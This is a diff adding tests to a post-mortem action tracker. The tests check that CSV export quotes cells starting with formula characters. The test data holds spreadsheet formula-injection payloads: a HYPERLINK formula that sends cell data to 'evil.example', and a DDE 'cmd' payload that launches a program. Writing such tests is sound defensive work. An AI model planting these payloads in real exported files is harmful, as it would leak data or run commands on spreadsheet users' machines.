@@ -73,3 +73,30 @@ def test_cli_formats(tmp_path, pet_clinic, capsys):
     assert len(json.loads(out.read_text())["actions"]) == len(rows) - 1
     assert main(["export", str(pet_clinic), "--template", "p0p1"]) == 0
     assert capsys.readouterr().out.splitlines()[0] == "# Incident Post-Mortem"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote():
+    formulas = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+    ]
+    r = Review(
+        actions=[
+            Action(id=f"A{n}", title=text, owner=text, tags=[text.strip()])
+            for n, text in enumerate(formulas)
+        ]
+        + [Action(id="A9", title="a = b, -c and @d stay as typed", owner="Ann")]
+    )
+    rows = list(csv.reader(io.StringIO(tracker.to_csv(r), newline="")))[1:]
+    assert [(row[0], row[2]) for row in rows[:-1]] == [("'" + t, "'" + t) for t in formulas]
+    assert [row[5] for row in rows[:-1]] == ["'" + "_".join(t.split()) for t in formulas]
+    assert rows[-1][0] == "a = b, -c and @d stay as typed" and rows[-1][2] == "Ann"
+    assert not any(cell.startswith(tracker.FORMULA_STARTS) for row in rows for cell in row)
+
+
+def test_a_carriage_return_first_is_quoted_too():
+    assert tracker.inert("\r=1+1") == "'\r=1+1"
+    assert tracker.inert("fine = 1") == "fine = 1"
